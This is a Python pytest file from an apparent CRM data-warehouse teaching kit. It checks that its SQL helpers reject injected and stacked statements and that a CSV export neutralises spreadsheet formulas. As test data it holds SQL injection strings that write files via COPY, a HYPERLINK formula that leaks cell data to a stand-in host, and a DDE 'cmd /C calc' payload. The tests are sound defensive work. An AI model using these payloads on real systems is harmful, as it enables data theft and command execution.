"""SQL never carries unescaped text from data or callers; caller SQL is one read-only SELECT."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest

from crmkit.errors import ParameterError
from crmkit.lessons import lesson02
from crmkit.warehouse.build import build_warehouse, quarantine, query
from crmkit.warehouse.cube import cube, pivot

GOOD = Path(__file__).resolve().parents[1] / "data" / "extracts" / "boutique"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A warehouse whose customer sheet has a city with quotes and one crafted to inject SQL."""
    root = tmp_path_factory.mktemp("hostile")
    folder = root / "batch"
    shutil.copytree(GOOD, folder)
    pwned = root / "pwned.csv"
    crafted = (f'Evil" FROM marts.dim_customer GROUP BY 1; COPY (SELECT 42) TO '
               f"'{pwned}'; SELECT \"x")
    path = folder / "legacy_customers.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    city = rows[0].index("City")
    rows[9][city] = 'Ciudad "Real"'
    rows[10][city] = crafted
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    db = build_warehouse(folder, root / "shop.duckdb")
    return db, crafted, pwned


def test_pivot_quotes_data_values_used_as_column_names(hostile):
    db, crafted, pwned = hostile
    got = pivot(db, rows="segment", columns="city", measure="count(customer_id)",
                table="marts.dim_customer")
    assert 'Ciudad "Real"' in got.columns and crafted in got.columns
    assert got['Ciudad "Real"'].sum() == 1 and got[crafted].sum() == 1
    assert not pwned.exists()


def test_query_runs_one_select_only(hostile, tmp_path):
    db, _, _ = hostile
    out = tmp_path / "copied.csv"
    for sql in (f"SELECT 1; COPY (SELECT 1) TO '{out}'",
                f"COPY (SELECT 1) TO '{out}'",
                "CREATE TABLE marts.x AS SELECT 1"):
        with pytest.raises(ParameterError, match="statement"):
            query(db, sql)
    assert not out.exists()
    assert query(db, "SELECT count(*) AS n FROM marts.dim_date")["n"][0] > 0


def test_query_cannot_read_other_files(hostile, tmp_path):
    db, _, _ = hostile
    secret = tmp_path / "secret.csv"
    secret.write_text("a\n1\n")
    with pytest.raises(ParameterError, match="query failed"):
        query(db, f"SELECT * FROM read_csv('{secret}')")


def test_cube_where_cannot_smuggle_a_second_statement(hostile, tmp_path):
    db, _, _ = hostile
    out = tmp_path / "where.csv"
    for where in (f"1=1) GROUP BY ALL; COPY (SELECT 1) TO '{out}'; --",
                  f"1=1 GROUP BY 1; COPY (SELECT 1) TO '{out}'"):
        with pytest.raises(ParameterError):
            cube(db, by=["channel"], where=where)
    assert not out.exists()
    some = cube(db, by=["channel"], where="year = 2025 -- a comment stays inside")
    every = cube(db, by=["channel"])
    assert some["revenue"].iloc[-1] < every["revenue"].iloc[-1]


def test_the_sql_exercise_checker_refuses_stacked_statements(hostile, tmp_path):
    db, _, _ = hostile
    ws = lesson02.Workshop(crm=None, root=Path(db).parent)  # its warehouse is shop.duckdb
    out = tmp_path / "answer.csv"
    for sql in (f"SELECT 1; COPY (SELECT 1) TO '{out}'", f"COPY (SELECT 1) TO '{out}'"):
        with pytest.raises(ValueError, match="one query"):
            lesson02.run_sql(ws, sql)
        with pytest.raises(ValueError, match="una sola consulta"):
            lesson02.run_sql(ws, sql, lang="es")
    assert not out.exists()
    assert lesson02.run_sql(ws, "SELECT count(*) FROM marts.dim_channel") == 4


def test_quarantine_export_for_spreadsheets_neutralises_formulas(tmp_path, capsys):
    from crmkit.cli import main

    folder = tmp_path / "batch"
    shutil.copytree(GOOD, folder)
    with open(folder / "web_orders.csv", "a", encoding="utf-8") as f:
        f.write('=HYPERLINK("http://example.invalid/?leak="&A1),1\n')
        f.write("@SUM(1+1)*cmd|' /C calc'!A0\n")
    db = build_warehouse(folder, tmp_path / "shop.duckdb")
    out = tmp_path / "quarantine.csv"
    assert main(["warehouse", "quarantine", str(db), "--csv", str(out)]) == 0
    got = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    records = got.loc[got["file"] == "web_orders.csv", "record"].tolist()
    assert "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1),1" in records
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in records
    for cell in got.to_numpy().ravel():
        assert not str(cell).startswith(("=", "+", "@")), cell
    assert len(got) == len(quarantine(db))  # every quarantined row, nothing else
